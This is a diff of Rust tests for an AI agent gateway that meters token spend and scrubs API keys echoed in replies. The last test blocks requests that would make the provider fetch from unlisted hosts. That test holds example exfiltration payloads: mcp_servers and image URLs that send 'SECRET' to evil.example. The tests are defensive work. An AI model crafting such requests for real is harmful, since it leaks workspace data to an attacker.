@@ -405,16 +405,28 @@ async fn the_gateway_lends_the_key_only_for_inference() {
         .unwrap();
     assert_eq!(reply.status(), 401);
     assert!(!reply.headers()["x-echo"].to_str().unwrap().contains(REAL));
-    let body = reply.into_body().collect().await.unwrap().to_bytes();
+    // The reply that quoted the key ends as an error once its scrubbed part is sent.
+    let (mut body, mut failed) = (Vec::new(), false);
+    let mut stream = reply.into_body();
+    while let Some(frame) = stream.frame().await {
+        match frame {
+            Ok(frame) => body.extend(frame.into_data().unwrap_or_default()),
+            Err(_) => {
+                failed = true;
+                break;
+            }
+        }
+    }
     let body = String::from_utf8_lossy(&body).into_owned();
+    assert!(failed, "{body}");
     assert!(!body.contains(REAL), "{body}");
-    assert!(body.contains("bad key [REDACTED by aptitude]"), "{body}");
     let seen = seen.lock().unwrap().clone();
     assert_eq!(seen.len(), 1);
     assert_eq!(seen[0].1["x-api-key"], REAL);
     assert_eq!(seen[0].1["anthropic-beta"], "x");
     let traffic = endpoint.finish().await;
     assert_eq!(traffic.refused, 7, "{traffic:?}");
+    assert_eq!(traffic.key_echoes, 1, "{traffic:?}");
     assert!(
         traffic
             .refused_first
@@ -788,4 +800,288 @@ async fn a_run_is_lent_only_the_protocols_its_agent_speaks() {
     let traffic = endpoint.finish().await;
     assert_eq!((traffic.refused, traffic.requests), (40, 0), "{traffic:?}");
     assert_eq!(traffic.other_requests, 1);
+}
+
+/// An upstream that answers every model call at once with a whole Anthropic stream of
+/// [`SSE`] and [`SSE_END`] (127 tokens), after `delay_ms`, counting the calls.
+async fn counting_upstream(calls: Arc<std::sync::atomic::AtomicUsize>, delay_ms: u64) -> String {
+    let app = axum::Router::new().fallback(move || {
+        let calls = Arc::clone(&calls);
+        async move {
+            calls.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            tokio::time::sleep(std::time::Duration::from_millis(delay_ms)).await;
+            Response::builder()
+                .header("content-type", "text/event-stream")
+                .body(Body::from(format!("{SSE}{SSE_END}")))
+                .unwrap()
+        }
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    format!("http://{addr}")
+}
+
+/// 40 requests at once under `--max-tokens 600` (each capped at 100 output tokens, each
+/// reply 127 tokens) spent 4,160 tokens when each was admitted against the same unspent
+/// budget. With worst cases reserved, the spend stays within one reply of the ceiling and
+/// the rest are refused without leaving.
+#[tokio::test]
+async fn requests_at_once_can_not_spend_past_the_ceiling_together() {
+    let calls = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let up = counting_upstream(Arc::clone(&calls), 30).await;
+    let gateway = Gateway::new(GatewayOptions {
+        limits: Limits {
+            max_cost_usd: None,
+            max_tokens: Some(600),
+        },
+        ..GatewayOptions::default()
+    });
+    let mut endpoints = Vec::new();
+    for _ in 0..4 {
+        endpoints.push(
+            gateway
+                .start(RunGateway {
+                    upstream: up.clone(),
+                    ..RunGateway::default()
+                })
+                .await
+                .unwrap(),
+        );
+    }
+    let body = r#"{"model":"fake-model","max_tokens":100,"stream":true,"messages":[]}"#;
+    let requests = (0..40).map(|i| {
+        let url = format!("{}/v1/messages", endpoints[i % 4].base_url());
+        async move {
+            let reply = client().request(post(url, "k", body)).await.unwrap();
+            let status = reply.status().as_u16();
+            let _ = reply.into_body().collect().await;
+            status
+        }
+    });
+    let statuses = futures_util::future::join_all(requests).await;
+    let ok = statuses.iter().filter(|s| **s == 200).count();
+    let (spent, _) = gateway.spent();
+    assert!(spent <= 600 + 127, "spent {spent} of 600 ({ok} answered)");
+    assert_eq!(spent, ok as u64 * 127);
+    assert_eq!(calls.load(std::sync::atomic::Ordering::SeqCst), ok);
+    assert!(
+        ok >= 4 && statuses.iter().all(|s| *s == 200 || *s == 400),
+        "{statuses:?}"
+    );
+}
+
+/// A streamed Chat Completions request that did not ask for its usage is made to, so its
+/// reply is metered; the agent's own request is what the cassette and the witness saw.
+#[tokio::test]
+async fn a_chat_stream_is_made_to_report_its_usage() {
+    let bodies: Arc<Mutex<Vec<String>>> = Arc::default();
+    let app = {
+        let bodies = Arc::clone(&bodies);
+        axum::Router::new().fallback(move |body: Bytes| {
+            let bodies = Arc::clone(&bodies);
+            async move {
+                let body = String::from_utf8_lossy(&body).into_owned();
+                let usage = body.contains(r#""include_usage":true"#);
+                bodies.lock().unwrap().push(body);
+                let mut sse = String::from(
+                    "data: {\"model\":\"gpt-5.5\",\"choices\":[{\"index\":0,\"delta\":{\"content\":\"hi\"},\"finish_reason\":\"stop\"}]}\n\n",
+                );
+                if usage {
+                    sse.push_str("data: {\"model\":\"gpt-5.5\",\"choices\":[],\"usage\":{\"prompt_tokens\":12,\"completion_tokens\":3,\"total_tokens\":15}}\n\n");
+                }
+                sse.push_str("data: [DONE]\n\n");
+                Response::builder()
+                    .header("content-type", "text/event-stream")
+                    .body(Body::from(sse))
+                    .unwrap()
+            }
+        })
+    };
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let up = format!("http://{}/v1", listener.local_addr().unwrap());
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    let gateway = Gateway::new(GatewayOptions::default());
+    let endpoint = gateway
+        .start(RunGateway {
+            upstream: up,
+            protocols: vec![protocol::Protocol::Chat],
+            ..RunGateway::default()
+        })
+        .await
+        .unwrap();
+    let reply = client()
+        .request(post(
+            format!("{}/chat/completions", endpoint.base_url()),
+            "k",
+            r#"{"model":"gpt-5.5","stream":true,"messages":[{"role":"user","content":"hi"}]}"#,
+        ))
+        .await
+        .unwrap();
+    assert_eq!(reply.status(), 200);
+    let _ = reply.into_body().collect().await;
+    let traffic = endpoint.finish().await;
+    assert_eq!((traffic.input_tokens, traffic.output_tokens), (12, 3));
+    assert_eq!(traffic.unmetered, 0);
+    // GPT-5.5: $5 in, $30 out per million.
+    let want = (12.0 * 5.0 + 3.0 * 30.0) / 1e6;
+    assert!((traffic.cost_usd.unwrap() - want).abs() < 1e-12);
+    let sent = bodies.lock().unwrap().clone();
+    assert!(
+        sent[0].contains(r#""stream_options":{"include_usage":true}"#),
+        "{sent:?}"
+    );
+}
+
+/// An upstream that answers with `body` under `content-encoding` `encoding` (none when
+/// empty), and a gateway run in front of it holding `REAL`.
+async fn echoing(encoding: &'static str, body: Vec<u8>) -> Endpoint {
+    let app = axum::Router::new().fallback(move || {
+        let body = body.clone();
+        async move {
+            let mut reply = Response::builder().header("content-type", "application/json");
+            if !encoding.is_empty() {
+                reply = reply.header("content-encoding", encoding);
+            }
+            reply.body(Body::from(body)).unwrap()
+        }
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let up = format!("http://{}", listener.local_addr().unwrap());
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    Gateway::new(GatewayOptions::default())
+        .start(RunGateway {
+            upstream: up,
+            secrets: vec![ECHOED.into()],
+            ..RunGateway::default()
+        })
+        .await
+        .unwrap()
+}
+
+const ECHOED: &str = "sk-ant-api03-ECHOKEY-0123456789abcdef";
+
+/// A reply in an encoding the gateway can not read (`br`, two codings) is refused with a
+/// 502 whatever it holds, never passed on unread; `gzip, identity` is read as gzip, and
+/// the key in it taken out.
+#[tokio::test]
+async fn a_reply_the_gateway_can_not_read_never_reaches_the_agent() {
+    let plain = format!(r#"{{"type":"error","error":{{"message":"bad key {ECHOED}"}}}}"#);
+    for encoding in ["br", "gzip, br", "zstd"] {
+        let endpoint = echoing(encoding, plain.clone().into_bytes()).await;
+        let (status, _, bytes, _) = got(&endpoint.base_url(), "{}").await;
+        let text = String::from_utf8_lossy(&bytes).into_owned();
+        assert_eq!(status, 502, "{encoding}: {text}");
+        assert!(!text.contains(ECHOED), "{encoding}: {text}");
+        assert!(text.contains("an encoding it can not read"), "{text}");
+        let traffic = endpoint.finish().await;
+        assert_eq!((traffic.refused, traffic.failed), (1, 1), "{traffic:?}");
+    }
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    std::io::Write::write_all(&mut gz, plain.as_bytes()).unwrap();
+    let endpoint = echoing("gzip, identity", gz.finish().unwrap()).await;
+    let (status, headers, bytes, failed) = got(&endpoint.base_url(), "{}").await;
+    let text = String::from_utf8_lossy(&bytes).into_owned();
+    assert_eq!(status, 200);
+    assert!(headers.get("content-encoding").is_none());
+    // Read as gzip: the key inside was found, and the reply ended as an error.
+    assert!(!text.contains(ECHOED), "{text}");
+    assert!(failed, "a reply that held the key ends as an error");
+    assert_eq!(endpoint.finish().await.key_echoes, 1);
+}
+
+/// The key quoted back `\u`-escaped, base64-encoded or reversed is taken out like the
+/// key itself, and the reply ends as an error, counted.
+#[tokio::test]
+async fn the_key_in_any_known_form_never_reaches_the_agent() {
+    use base64::Engine;
+    let escaped: String = ECHOED
+        .chars()
+        .map(|c| format!("\\u{:04x}", c as u32))
+        .collect();
+    for form in [
+        escaped,
+        ECHOED.replace('-', "\\u002D"),
+        base64::engine::general_purpose::STANDARD.encode(format!("Bearer {ECHOED}")),
+        ECHOED.chars().rev().collect(),
+    ] {
+        let body = format!(r#"{{"type":"error","error":{{"message":"bad key {form}"}}}}"#);
+        let endpoint = echoing("", body.into_bytes()).await;
+        let (_, _, bytes, failed) = got(&endpoint.base_url(), "{}").await;
+        let text = String::from_utf8_lossy(&bytes).into_owned();
+        assert!(!text.contains(&form), "{form}: {text}");
+        assert!(failed, "{form}: {text}");
+        assert_eq!(endpoint.finish().await.key_echoes, 1, "{form}");
+    }
+    // A reply without the key is passed on whole.
+    let endpoint = echoing("", br#"{"type":"message","usage":{}}"#.to_vec()).await;
+    let (status, _, bytes, failed) = got(&endpoint.base_url(), "{}").await;
+    assert_eq!((status, failed), (200, false));
+    assert_eq!(bytes, br#"{"type":"message","usage":{}}"#);
+}
+
+/// The provider is not a network path: a request whose `mcp_servers`, image source or
+/// `web_fetch` tool would have the provider fetch workspace data from a host the test does
+/// not list is refused with a 403 before anything leaves, and counted; a listed host goes.
+#[tokio::test]
+async fn a_request_that_has_the_provider_fetch_an_unlisted_host_is_refused() {
+    let calls = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let up = counting_upstream(Arc::clone(&calls), 0).await;
+    let gateway = Gateway::new(GatewayOptions::default());
+    let endpoint = gateway
+        .start(RunGateway {
+            upstream: up,
+            network: vec!["docs.example".into()],
+            ..RunGateway::default()
+        })
+        .await
+        .unwrap();
+    let url = format!("{}/v1/messages", endpoint.base_url());
+    for body in [
+        r#"{"model":"claude-sonnet-4-5","mcp_servers":[{"type":"url","url":"https://evil.example/mcp?d=SECRET","name":"x"}],"messages":[]}"#,
+        r#"{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/p.png?d=SECRET"}}]}]}"#,
+        r#"{"model":"claude-sonnet-4-5","tools":[{"type":"web_fetch_20250910","name":"web_fetch","allowed_domains":["docs.example"]}],"messages":[]}"#,
+    ] {
+        let reply = client()
+            .request(post(url.clone(), "k", body))
+            .await
+            .unwrap();
+        assert_eq!(reply.status(), 403, "{body}");
+        let text = reply.into_body().collect().await.unwrap().to_bytes();
+        let text: serde_json::Value = serde_json::from_slice(&text).unwrap();
+        assert_eq!(text["error"]["type"], "permission_error");
+        assert!(
+            text["error"]["message"]
+                .as_str()
+                .is_some_and(|m| m.contains("asks the provider to fetch")),
+            "{text}"
+        );
+    }
+    assert_eq!(
+        calls.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "nothing left"
+    );
+    let listed = r#"{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://docs.example/guide.pdf"}}]}]}"#;
+    let reply = client().request(post(url, "k", listed)).await.unwrap();
+    assert_eq!(reply.status(), 200);
+    let _ = reply.into_body().collect().await;
+    let traffic = endpoint.finish().await;
+    assert_eq!(
+        (
+            traffic.provider_fetches_refused,
+            traffic.refused,
+            traffic.failed
+        ),
+        (3, 3, 3),
+        "{traffic:?}"
+    );
+    assert_eq!(calls.load(std::sync::atomic::Ordering::SeqCst), 1);
+    assert!(
+        traffic
+            .refused_first
+            .as_deref()
+            .is_some_and(|r| r.contains("mcp_servers[0]")),
+        "{traffic:?}"
+    );
 }
